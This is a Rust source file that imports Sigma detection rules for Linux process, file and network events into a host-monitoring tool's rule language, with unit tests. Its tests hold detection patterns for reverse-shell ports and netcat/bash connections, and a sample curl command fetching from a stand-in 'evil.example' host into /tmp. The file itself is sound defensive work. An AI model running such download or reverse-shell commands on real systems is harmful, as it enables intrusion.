//! Import of Sigma rules (<https://sigmahq.io>) for Linux process creation, file and network
//! events into Vigil's rule language, with a report of each rule that could not be expressed
//! and why.
//!
//! What maps:
//!
//! | Sigma `logsource`                      | Vigil event            |
//! |----------------------------------------|------------------------|
//! | `product: linux`, `process_creation`   | `type == "exec"`       |
//! | `product: linux`, `file_event`         | `type == "open"` that writes or creates |
//! | `product: linux`, `file_access`        | `type == "open"`       |
//! | `product: linux`, `network_connection` | `type == "connect"`    |
//!
//! Fields: `Image` (the executable; on file and network events its base name, since those events
//! carry the process name), `CommandLine`, `CurrentDirectory`, `User`, `ParentImage` (base name),
//! `TargetFilename`, `DestinationIp`, `DestinationPort`. Modifiers: `contains`, `startswith`,
//! `endswith`, `all`, `re`, `lt`/`lte`/`gt`/`gte`; `*` and `?` wildcards. Conditions: `and`, `or`,
//! `not`, parentheses, `1 of`/`all of` a name pattern or `them`.
//!
//! Matching is case-sensitive, as Linux paths and command names are (Sigma's default is
//! case-insensitive, which matters on Windows). Everything else (other log sources such as
//! auditd, keyword searches, aggregations, `windash`, `base64`, `cidr`, null values, fields Vigil
//! does not capture) is reported, never imported half-way.

use std::collections::BTreeMap;

use serde::Serialize;
use yaml_serde::Value as Yaml;

use super::{expr, rules::parse_rules};

/// The outcome of an import: a rules file and what was left out.
#[derive(Debug, Default, Serialize)]
pub struct SigmaImport {
    pub imported: Vec<ImportedRule>,
    pub skipped: Vec<SkippedRule>,
}

#[derive(Debug, Clone, Serialize)]
pub struct ImportedRule {
    /// The Vigil rule id given to it.
    pub id: String,
    pub title: String,
    /// Where it came from (`file` or `file#2` for the second document of a file).
    pub source: String,
    pub sigma_id: Option<String>,
    pub technique: String,
    pub severity: String,
    pub risk: u32,
    pub when: String,
    #[serde(skip)]
    description: String,
}

#[derive(Debug, Clone, Serialize)]
pub struct SkippedRule {
    pub source: String,
    pub title: Option<String>,
    pub reason: String,
}

/// A rule the language cannot express, and why.
type Unsupported = String;

#[derive(Serialize)]
struct OutFile<'a> {
    rules: Vec<OutRule<'a>>,
}

#[derive(Serialize)]
struct OutRule<'a> {
    id: &'a str,
    title: &'a str,
    technique: &'a str,
    severity: &'a str,
    risk: u32,
    description: &'a str,
    when: &'a str,
}

impl SigmaImport {
    /// Converts every document of `text` (a Sigma file named `name` in messages).
    pub fn add_file(&mut self, name: &str, text: &str) {
        use serde::Deserialize;
        let mut index = 0;
        for doc in yaml_serde::Deserializer::from_str(text) {
            index += 1;
            let source = if index == 1 {
                name.to_string()
            } else {
                format!("{name}#{index}")
            };
            let value = match Yaml::deserialize(doc) {
                Ok(v) => v,
                Err(e) => {
                    self.skipped.push(SkippedRule {
                        source,
                        title: None,
                        reason: format!("not valid YAML: {e}"),
                    });
                    // The rest of the stream cannot be trusted after a syntax error.
                    return;
                }
            };
            if value.is_null() {
                continue;
            }
            let title = value
                .get("title")
                .and_then(Yaml::as_str)
                .map(str::to_string);
            match self.convert(&value, &source) {
                Ok(rule) => self.imported.push(rule),
                Err(reason) => self.skipped.push(SkippedRule {
                    source,
                    title,
                    reason,
                }),
            }
        }
    }

    fn convert(&self, rule: &Yaml, source: &str) -> Result<ImportedRule, Unsupported> {
        if let Some(action) = rule.get("action").and_then(Yaml::as_str) {
            return Err(format!(
                "rule collections (action: {action}) are not supported; import the merged rules"
            ));
        }
        let title = rule
            .get("title")
            .and_then(Yaml::as_str)
            .ok_or("no title")?
            .to_string();
        let logsource = rule.get("logsource").ok_or("no logsource")?;
        let text = |k: &str| logsource.get(k).and_then(Yaml::as_str);
        if let Some(service) = text("service") {
            return Err(format!(
                "log source service `{service}`: Vigil captures events in the kernel, not from that log"
            ));
        }
        if text("product") != Some("linux") {
            return Err(format!(
                "product `{}`: only Linux rules apply",
                text("product").unwrap_or("(none)")
            ));
        }
        let category = match text("category") {
            Some(
                c @ ("process_creation" | "file_event" | "file_access" | "network_connection"),
            ) => Category::from(c),
            Some(c) => return Err(format!("category `{c}` has no Vigil event")),
            None => return Err("no log source category".into()),
        };
        let technique = rule
            .get("tags")
            .and_then(Yaml::as_sequence)
            .into_iter()
            .flatten()
            .filter_map(Yaml::as_str)
            .find_map(attack_technique)
            .ok_or("no ATT&CK technique tag (attack.tNNNN); Vigil rules carry one")?;
        let (severity, risk) = match rule.get("level").and_then(Yaml::as_str) {
            Some("informational") | Some("low") => ("low", 10),
            Some("medium") | None => ("medium", 20),
            Some("high") => ("high", 35),
            Some("critical") => ("critical", 60),
            Some(other) => return Err(format!("level `{other}` is not a Sigma level")),
        };
        let detection = rule
            .get("detection")
            .and_then(Yaml::as_mapping)
            .ok_or("no detection section")?;
        let mut selections: BTreeMap<String, &Yaml> = BTreeMap::new();
        let mut condition = None;
        for (k, v) in detection {
            let k = k.as_str().ok_or("a detection key is not a string")?;
            match k {
                "condition" => condition = Some(v),
                "timeframe" => {
                    return Err("timeframe (correlation over time) is not supported".into())
                }
                _ => {
                    selections.insert(k.to_string(), v);
                }
            }
        }
        let condition = match condition.ok_or("detection has no condition")? {
            Yaml::String(s) => s.clone(),
            Yaml::Sequence(list) => {
                let parts: Option<Vec<&str>> = list.iter().map(Yaml::as_str).collect();
                let parts = parts.ok_or("condition list holds a non-string")?;
                parts
                    .iter()
                    .map(|p| format!("({p})"))
                    .collect::<Vec<_>>()
                    .join(" or ")
            }
            _ => return Err("condition is not a string".into()),
        };
        let mut compiled = BTreeMap::new();
        for (name, sel) in &selections {
            compiled.insert(name.clone(), selection(category, name, sel)?);
        }
        let cond = Condition::parse(&condition, &compiled)?;
        let when = format!("{} and ({cond})", category.event_test());
        // The language must accept what was generated; a failure here is a bug in this
        // converter, reported like any other rule that cannot be imported.
        expr::parse(&when).map_err(|e| format!("generated expression rejected ({e}): {when}"))?;
        let sigma_id = rule.get("id").and_then(Yaml::as_str).map(str::to_string);
        let id = self.unique_id(&slug(&title));
        Ok(ImportedRule {
            description: format!(
                "Imported from Sigma{} ({source}).",
                sigma_id
                    .as_deref()
                    .map(|i| format!(" rule {i}"))
                    .unwrap_or_default()
            ),
            id,
            title,
            source: source.to_string(),
            sigma_id,
            technique,
            severity: severity.into(),
            risk,
            when,
        })
    }

    fn unique_id(&self, base: &str) -> String {
        let taken = |id: &str| self.imported.iter().any(|r| r.id == id);
        let mut id = base.to_string();
        let mut n = 2;
        while taken(&id) {
            id = format!("{base}-{n}");
            n += 1;
        }
        id
    }

    /// The imported rules as a Vigil rules file (checked by the rules loader before it is
    /// returned).
    pub fn rules_yaml(&self) -> Result<String, SigmaExportError> {
        let out = OutFile {
            rules: self
                .imported
                .iter()
                .map(|r| OutRule {
                    id: &r.id,
                    title: &r.title,
                    technique: &r.technique,
                    severity: &r.severity,
                    risk: r.risk,
                    description: &r.description,
                    when: &r.when,
                })
                .collect(),
        };
        let text = format!(
            "# Imported from Sigma by `vigil rules import-sigma`: {} rules, {} not importable.\n{}",
            self.imported.len(),
            self.skipped.len(),
            yaml_serde::to_string(&out).map_err(SigmaExportError::Yaml)?
        );
        parse_rules(&text, "imported rules").map_err(SigmaExportError::Rules)?;
        Ok(text)
    }
}

/// Imported rules that cannot be written out as a rules file (a defect of the importer: what it
/// writes must load).
#[derive(Debug, thiserror::Error)]
pub enum SigmaExportError {
    #[error("cannot write the imported rules as YAML: {0}")]
    Yaml(#[source] yaml_serde::Error),
    #[error("the imported rules do not load: {0}")]
    Rules(#[source] super::rules::RulesError),
    #[error("cannot write the import report: {0}")]
    Report(#[source] serde_json::Error),
}

/// `attack.t1059.004` → `T1059.004`.
fn attack_technique(tag: &str) -> Option<String> {
    let t = tag.strip_prefix("attack.")?;
    let rest = t.strip_prefix('t').or_else(|| t.strip_prefix('T'))?;
    let (base, sub) = rest.split_once('.').unwrap_or((rest, ""));
    let digits = |s: &str, n: usize| s.len() == n && s.bytes().all(|b| b.is_ascii_digit());
    (digits(base, 4) && (sub.is_empty() || digits(sub, 3))).then(|| format!("T{}", rest))
}

fn slug(title: &str) -> String {
    let mut s = String::from("sigma-");
    let mut dash = false;
    for c in title.chars().flat_map(char::to_lowercase) {
        if c.is_ascii_alphanumeric() {
            s.push(c);
            dash = false;
        } else if !dash && s.len() > 6 {
            s.push('-');
            dash = true;
        }
        if s.len() >= 64 {
            break;
        }
    }
    s.trim_end_matches('-').to_string()
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Category {
    ProcessCreation,
    FileEvent,
    FileAccess,
    NetworkConnection,
}

impl Category {
    fn from(name: &str) -> Category {
        match name {
            "process_creation" => Category::ProcessCreation,
            "file_event" => Category::FileEvent,
            "file_access" => Category::FileAccess,
            _ => Category::NetworkConnection,
        }
    }

    fn event_test(self) -> &'static str {
        match self {
            Category::ProcessCreation => "type == \"exec\"",
            Category::FileEvent => "type == \"open\" and ok and access != \"read\"",
            Category::FileAccess => "type == \"open\"",
            Category::NetworkConnection => "type == \"connect\"",
        }
    }

    /// The Vigil field for a Sigma field, and how its values are compared.
    /// The Vigil field for a Sigma field (the rule language's own table, so a field Vigil does
    /// not have cannot be named here), and how its values are compared.
    fn field(self, sigma: &str) -> Option<(&'static str, FieldKind)> {
        use super::fields::Field;
        use Category::*;
        let (field, kind) = match (self, sigma) {
            (ProcessCreation, "Image") => (Field::Filename, FieldKind::Text),
            (ProcessCreation, "CommandLine") => (Field::Cmdline, FieldKind::Text),
            (ProcessCreation, "CurrentDirectory") => (Field::Cwd, FieldKind::Text),
            (ProcessCreation, "ParentImage") => (Field::Parent, FieldKind::BaseName),
            (_, "User") => (Field::ProcessUser, FieldKind::Text),
            (_, "Image") => (Field::ProcessComm, FieldKind::BaseName),
            (FileEvent | FileAccess, "TargetFilename") => (Field::Path, FieldKind::Text),
            (NetworkConnection, "DestinationIp") => (Field::Address, FieldKind::Text),
            (NetworkConnection, "DestinationPort") => (Field::Port, FieldKind::Number),
            // Vigil sees connections the host makes; `Initiated: 'true'` is all of them.
            (NetworkConnection, "Initiated") => return Some(("", FieldKind::Initiated)),
            _ => return None,
        };
        Some((field.name(), kind))
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum FieldKind {
    Text,
    /// A path in Sigma, a process name in Vigil (at most 15 bytes, as the kernel keeps it).
    BaseName,
    Number,
    Initiated,
}

/// A string literal of the rule language.
fn lit(s: &str) -> String {
    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
}

/// One Sigma value pattern: literal text with `*` and `?` wildcards (`\*`, `\?`, `\\` escape).
enum Piece {
    Text(String),
    Star,
    One,
}

fn pieces(v: &str) -> Vec<Piece> {
    let mut out = Vec::new();
    let mut text = String::new();
    let mut chars = v.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' if matches!(chars.peek(), Some('*' | '?' | '\\')) => {
                text.push(chars.next().unwrap_or('\\'));
            }
            '*' | '?' => {
                if !text.is_empty() {
                    out.push(Piece::Text(std::mem::take(&mut text)));
                }
                out.push(if c == '*' { Piece::Star } else { Piece::One });
            }
            _ => text.push(c),
        }
    }
    if !text.is_empty() {
        out.push(Piece::Text(text));
    }
    out
}

/// The comparison of `field` with the pattern `value` (after the modifier added its stars).
fn text_test(field: &str, value: &str) -> String {
    let p = pieces(value);
    let star = |x: Option<&Piece>| matches!(x, Some(Piece::Star));
    let only_text_inside = |inner: &[Piece]| inner.len() == 1 && matches!(inner[0], Piece::Text(_));
    let lead = star(p.first());
    let trail = p.len() > 1 && star(p.last());
    let inner = &p[usize::from(lead)..p.len() - usize::from(trail)];
    if inner.is_empty() {
        // `*` alone: any value, as long as the field is there.
        return format!("{field} matches \"\"");
    }
    if only_text_inside(inner) {
        let Piece::Text(t) = &inner[0] else {
            unreachable!()
        };
        let op = match (lead, trail) {
            (false, false) => "==",
            (true, true) => "contains",
            (false, true) => "startswith",
            (true, false) => "endswith",
        };
        return format!("{field} {op} {}", lit(t));
    }
    let mut re = String::from("^");
    for piece in &p {
        match piece {
            Piece::Text(t) => re.push_str(&regex::escape(t)),
            Piece::Star => re.push_str(".*"),
            Piece::One => re.push('.'),
        }
    }
    re.push('$');
    format!("{field} matches {}", lit(&re))
}

fn scalar(v: &Yaml) -> Result<String, Unsupported> {
    match v {
        Yaml::String(s) => Ok(s.clone()),
        Yaml::Number(n) => Ok(n.to_string()),
        Yaml::Bool(b) => Ok(b.to_string()),
        Yaml::Null => Err("null values (field absent) are not supported".into()),
        _ => Err("a value is neither a string nor a number".into()),
    }
}

/// One `Field|modifiers: values` entry; `None` when it holds for every event Vigil sees.
fn field_test(category: Category, key: &str, value: &Yaml) -> Result<Option<String>, Unsupported> {
    let mut parts = key.split('|');
    let name = parts.next().unwrap_or_default();
    let mods: Vec<&str> = parts.collect();
    let (field, kind) = category
        .field(name)
        .ok_or_else(|| format!("field `{name}` has no Vigil equivalent"))?;
    let values: Vec<String> = match value {
        Yaml::Sequence(list) => list.iter().map(scalar).collect::<Result<_, _>>()?,
        v => vec![scalar(v)?],
    };
    if values.is_empty() {
        return Err(format!("field `{name}` has an empty value list"));
    }
    let mut all = false;
    let mut how: Option<&str> = None;
    for m in &mods {
        match *m {
            "all" => all = true,
            "contains" | "startswith" | "endswith" | "re" | "lt" | "lte" | "gt" | "gte"
                if how.is_none() =>
            {
                how = Some(m)
            }
            "cased" => {}
            other => return Err(format!("modifier `{other}` (on `{name}`) is not supported")),
        }
    }
    let tests: Vec<String> = match kind {
        FieldKind::Initiated => {
            return if values.iter().all(|v| v == "true") {
                Ok(None)
            } else {
                Err("Initiated other than 'true': Vigil sees outbound connections only".into())
            }
        }
        FieldKind::Number => values
            .iter()
            .map(|v| {
                let n: f64 = v
                    .parse()
                    .map_err(|_| format!("`{name}` value `{v}` is not a number"))?;
                let op = match how {
                    None => "==",
                    Some("lt") => "<",
                    Some("lte") => "<=",
                    Some("gt") => ">",
                    Some("gte") => ">=",
                    Some(m) => return Err(format!("modifier `{m}` on the number `{name}`")),
                };
                Ok(format!("{field} {op} {n}"))
            })
            .collect::<Result<_, Unsupported>>()?,
        FieldKind::BaseName => values
            .iter()
            .map(|v| basename_test(field, name, how, v))
            .collect::<Result<_, _>>()?,
        FieldKind::Text => values
            .iter()
            .map(|v| match how {
                None => Ok(text_test(field, v)),
                Some("contains") => Ok(text_test(field, &format!("*{v}*"))),
                Some("startswith") => Ok(text_test(field, &format!("{v}*"))),
                Some("endswith") => Ok(text_test(field, &format!("*{v}"))),
                Some("re") => regex::Regex::new(v)
                    .map(|_| format!("{field} matches {}", lit(v)))
                    .map_err(|e| format!("`{name}|re` value is not a regular expression: {e}")),
                Some(m) => Err(format!("modifier `{m}` on the text field `{name}`")),
            })
            .collect::<Result<_, _>>()?,
    };
    Ok(Some(join(tests, if all { "and" } else { "or" })))
}

/// `Image` on file and network events, `ParentImage`: Vigil knows the process name (the
/// executable's base name, cut to 15 bytes by the kernel), so only whole-name tests translate.
fn basename_test(
    field: &str,
    sigma: &str,
    how: Option<&str>,
    v: &str,
) -> Result<String, Unsupported> {
    let whole_name = match how {
        None => v.contains('/').then(|| v.rsplit('/').next().unwrap_or(v)),
        Some("endswith") => v.strip_prefix('/'),
        _ => None,
    };
    match whole_name {
        Some(name) if !name.is_empty() && !name.contains(['*', '?']) => {
            let cut: String = name.bytes().take(15).map(char::from).collect();
            if name.is_ascii() {
                Ok(format!("{field} == {}", lit(&cut)))
            } else {
                Err(format!("`{sigma}` value `{v}` is not ASCII"))
            }
        }
        _ => Err(format!(
            "`{sigma}` {} `{v}`: Vigil has the process name here, not its path; only a whole file name (`|endswith: /name` or a full path) translates",
            how.unwrap_or("value")
        )),
    }
}

fn join(tests: Vec<String>, op: &str) -> String {
    if tests.len() == 1 {
        return tests.into_iter().next().unwrap_or_default();
    }
    format!("({})", tests.join(&format!(" {op} ")))
}

/// One named selection: a map (all of its fields) or a list of maps (any of them).
fn selection(category: Category, name: &str, sel: &Yaml) -> Result<String, Unsupported> {
    let map_test = |m: &yaml_serde::Mapping| -> Result<String, Unsupported> {
        let tests: Vec<String> = m
            .iter()
            .map(|(k, v)| {
                let k = k.as_str().ok_or("a field name is not a string")?;
                field_test(category, k, v)
            })
            .collect::<Result<Vec<_>, _>>()?
            .into_iter()
            .flatten()
            .collect();
        if tests.is_empty() {
            // Only always-true tests: the selection matches every event of its category.
            return Ok(category.event_test().to_string());
        }
        Ok(join(tests, "and"))
    };
    match sel {
        Yaml::Mapping(m) => map_test(m),
        Yaml::Sequence(items) if items.iter().all(Yaml::is_mapping) => {
            let tests = items
                .iter()
                .filter_map(Yaml::as_mapping)
                .map(map_test)
                .collect::<Result<Vec<_>, _>>()?;
            Ok(join(tests, "or"))
        }
        _ => Err(format!(
            "selection `{name}` is a keyword search; Vigil matches fields, not free text"
        )),
    }
}

/// A Sigma condition, translated over the compiled selections.
struct Condition<'a> {
    toks: Vec<String>,
    pos: usize,
    selections: &'a BTreeMap<String, String>,
}

impl Condition<'_> {
    fn parse(text: &str, selections: &BTreeMap<String, String>) -> Result<String, Unsupported> {
        if text.contains('|') {
            return Err("aggregations in the condition (`| count() …`) are not supported".into());
        }
        let mut toks = Vec::new();
        let mut word = String::new();
        for c in text.chars() {
            if c == '(' || c == ')' || c.is_whitespace() {
                if !word.is_empty() {
                    toks.push(std::mem::take(&mut word));
                }
                if !c.is_whitespace() {
                    toks.push(c.to_string());
                }
            } else {
                word.push(c);
            }
        }
        if !word.is_empty() {
            toks.push(word);
        }
        let mut p = Condition {
            toks,
            pos: 0,
            selections,
        };
        let e = p.or()?;
        match p.toks.get(p.pos) {
            None => Ok(e),
            Some(t) => Err(format!("condition `{text}`: unexpected `{t}`")),
        }
    }

    fn peek(&self) -> Option<&str> {
        self.toks.get(self.pos).map(String::as_str)
    }

    fn next(&mut self) -> Result<String, Unsupported> {
        let t = self
            .toks
            .get(self.pos)
            .cloned()
            .ok_or("condition ends too early")?;
        self.pos += 1;
        Ok(t)
    }

    fn or(&mut self) -> Result<String, Unsupported> {
        let mut e = self.and()?;
        while self.peek() == Some("or") {
            self.pos += 1;
            e = format!("({e} or {})", self.and()?);
        }
        Ok(e)
    }

    fn and(&mut self) -> Result<String, Unsupported> {
        let mut e = self.not()?;
        while self.peek() == Some("and") {
            self.pos += 1;
            e = format!("({e} and {})", self.not()?);
        }
        Ok(e)
    }

    fn not(&mut self) -> Result<String, Unsupported> {
        if self.peek() == Some("not") {
            self.pos += 1;
            return Ok(format!("not {}", self.not()?));
        }
        self.atom()
    }

    fn atom(&mut self) -> Result<String, Unsupported> {
        let t = self.next()?;
        match t.as_str() {
            "(" => {
                let e = self.or()?;
                match self.next()?.as_str() {
                    ")" => Ok(e),
                    other => Err(format!("condition: expected `)`, found `{other}`")),
                }
            }
            "1" | "any" | "all" => {
                if self.next()? != "of" {
                    return Err(format!("condition: `{t}` must be followed by `of`"));
                }
                let target = self.next()?;
                let chosen: Vec<&String> = self
                    .selections
                    .iter()
                    .filter(|(name, _)| target == "them" || name_matches(&target, name))
                    // `them` leaves out selections named with an underscore first, as Sigma does.
                    .filter(|(name, _)| target != "them" || !name.starts_with('_'))
                    .map(|(_, e)| e)
                    .collect();
                if chosen.is_empty() {
                    return Err(format!("condition: `{t} of {target}` names no selection"));
                }
                let op = if t == "all" { "and" } else { "or" };
                Ok(join(chosen.into_iter().cloned().collect(), op))
            }
            name => self
                .selections
                .get(name)
                .map(|e| e.to_string())
                .ok_or_else(|| format!("condition names `{name}`, which is not a selection")),
        }
    }
}

/// `selection*` style name patterns.
fn name_matches(pattern: &str, name: &str) -> bool {
    match pattern.strip_suffix('*') {
        Some(prefix) => name.starts_with(prefix),
        None => pattern == name,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::expr::{Fields, Value};
    use std::borrow::Cow;

    struct Ev(Vec<(&'static str, Value<'static>)>);
    impl Fields for Ev {
        fn get(&self, field: crate::detect::fields::Field) -> Value<'_> {
            self.0
                .iter()
                .find(|(f, _)| *f == field.name())
                .map(|(_, v)| v.clone())
                .unwrap_or(Value::Missing)
        }
    }

    fn s(v: &'static str) -> Value<'static> {
        Value::Str(Cow::Borrowed(v))
    }

    const CURL_TO_TMP: &str = r#"
title: Download to a temporary directory with curl
id: 3c4a8b5e-0000-4000-8000-000000000001
status: experimental
logsource:
    product: linux
    category: process_creation
detection:
    selection_img:
        Image|endswith: '/curl'
    selection_out:
        CommandLine|contains:
            - ' -o /tmp/'
            - ' --output /tmp/'
    filter_local:
        CommandLine|contains: '127.0.0.1'
    condition: all of selection_* and not filter_local
tags:
    - attack.command_and_control
    - attack.t1105
level: medium
"#;

    #[test]
    fn process_creation_rule_translates_and_matches() {
        let mut imp = SigmaImport::default();
        imp.add_file("curl.yml", CURL_TO_TMP);
        assert!(imp.skipped.is_empty(), "{:?}", imp.skipped);
        let r = &imp.imported[0];
        assert_eq!(r.id, "sigma-download-to-a-temporary-directory-with-curl");
        assert_eq!(r.technique, "T1105");
        assert_eq!(r.severity, "medium");
        let e = expr::parse(&r.when).unwrap();
        let ev = |cmd: &'static str| {
            Ev(vec![
                ("type", s("exec")),
                ("filename", s("/usr/bin/curl")),
                ("cmdline", s(cmd)),
            ])
        };
        assert!(e.eval(&ev("curl -s -o /tmp/x http://evil.example/x")));
        assert!(!e.eval(&ev("curl -s -o /tmp/x http://127.0.0.1/x")));
        assert!(!e.eval(&ev("curl -s http://evil.example/x")));
        let yaml = imp.rules_yaml().unwrap();
        assert!(yaml.contains("3c4a8b5e-0000-4000-8000-000000000001"));
    }

    #[test]
    fn wildcards_lists_and_network_fields() {
        let text = r#"
title: Connection to a remote shell port
logsource: {product: linux, category: network_connection}
detection:
    selection:
        Initiated: 'true'
        DestinationPort: [4444, 1337]
        Image|endswith: ['/bash', '/nc.openbsd']
    filter:
        DestinationIp|startswith: '127.'
    condition: selection and not filter
tags: [attack.t1059.004]
level: high
---
title: Hidden file in tmp
logsource: {product: linux, category: file_event}
detection:
    selection:
        TargetFilename: '/tmp/.*'
    condition: selection
tags: [attack.t1564.001]
level: low
"#;
        let mut imp = SigmaImport::default();
        imp.add_file("net.yml", text);
        assert!(imp.skipped.is_empty(), "{:?}", imp.skipped);
        let net = expr::parse(&imp.imported[0].when).unwrap();
        let conn = |addr: &'static str, port: f64, comm: &'static str| {
            Ev(vec![
                ("type", s("connect")),
                ("address", s(addr)),
                ("port", Value::Num(port)),
                ("process.comm", s(comm)),
            ])
        };
        assert!(net.eval(&conn("203.0.113.9", 4444.0, "bash")));
        assert!(net.eval(&conn("203.0.113.9", 1337.0, "nc.openbsd")));
        assert!(!net.eval(&conn("127.0.0.1", 4444.0, "bash")));
        assert!(!net.eval(&conn("203.0.113.9", 443.0, "bash")));
        assert_eq!(imp.imported[1].source, "net.yml#2");
        let file = expr::parse(&imp.imported[1].when).unwrap();
        let open = |p: &'static str| {
            Ev(vec![
                ("type", s("open")),
                ("ok", Value::Bool(true)),
                ("access", s("write")),
                ("path", s(p)),
            ])
        };
        assert!(file.eval(&open("/tmp/.hidden")));
        assert!(!file.eval(&open("/tmp/visible")));
        assert!(!file.eval(&open("/var/tmp/.x")));
    }

    #[test]
    fn what_cannot_be_expressed_is_reported_with_the_reason() {
        let cases = [
            ("logsource: {product: linux, service: auditd}", "service `auditd`"),
            ("logsource: {product: windows, category: process_creation}", "product `windows`"),
            ("logsource: {product: linux, category: process_creation}\ndetection: {keywords: ['evil'], condition: keywords}", "keyword search"),
            ("logsource: {product: linux, category: process_creation}\ndetection: {sel: {ParentCommandLine: x}, condition: sel}", "`ParentCommandLine` has no Vigil equivalent"),
            ("logsource: {product: linux, category: process_creation}\ndetection: {sel: {CommandLine|base64offset|contains: x}, condition: sel}", "modifier `base64offset`"),
            ("logsource: {product: linux, category: process_creation}\ndetection: {sel: {Image: /x}, condition: sel | count() > 5}", "aggregations"),
            ("logsource: {product: linux, category: process_creation}\ndetection: {sel: {Image: /x}, condition: other}", "`other`, which is not a selection"),
            ("logsource: {product: linux, category: file_event}\ndetection: {sel: {Image|contains: bin}, condition: sel}", "process name here"),
        ];
        for (body, why) in cases {
            let text = format!("title: t\ntags: [attack.t1000]\n{body}\n");
            let mut imp = SigmaImport::default();
            imp.add_file("x.yml", &text);
            assert_eq!(imp.imported.len(), 0, "{body}");
            assert!(
                imp.skipped[0].reason.contains(why),
                "{body}: {}",
                imp.skipped[0].reason
            );
        }
        let mut imp = SigmaImport::default();
        imp.add_file(
            "x.yml",
            "title: t\nlogsource: {product: linux, category: process_creation}\ndetection: {sel: {Image: /x}, condition: sel}\n",
        );
        assert!(imp.skipped[0].reason.contains("ATT&CK"));
    }

    #[test]
    fn hostile_values_stay_literal() {
        let text = "title: q\ntags: [attack.t1000]\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    CommandLine|contains: 'a\" or type == \"exec'\n  condition: sel\n";
        let mut imp = SigmaImport::default();
        imp.add_file("q.yml", text);
        let e = expr::parse(&imp.imported[0].when).unwrap();
        let ev = Ev(vec![("type", s("exec")), ("cmdline", s("ls"))]);
        assert!(!e.eval(&ev));
        let ev = Ev(vec![
            ("type", s("exec")),
            ("cmdline", s("x a\" or type == \"exec y")),
        ]);
        assert!(e.eval(&ev));
    }
}
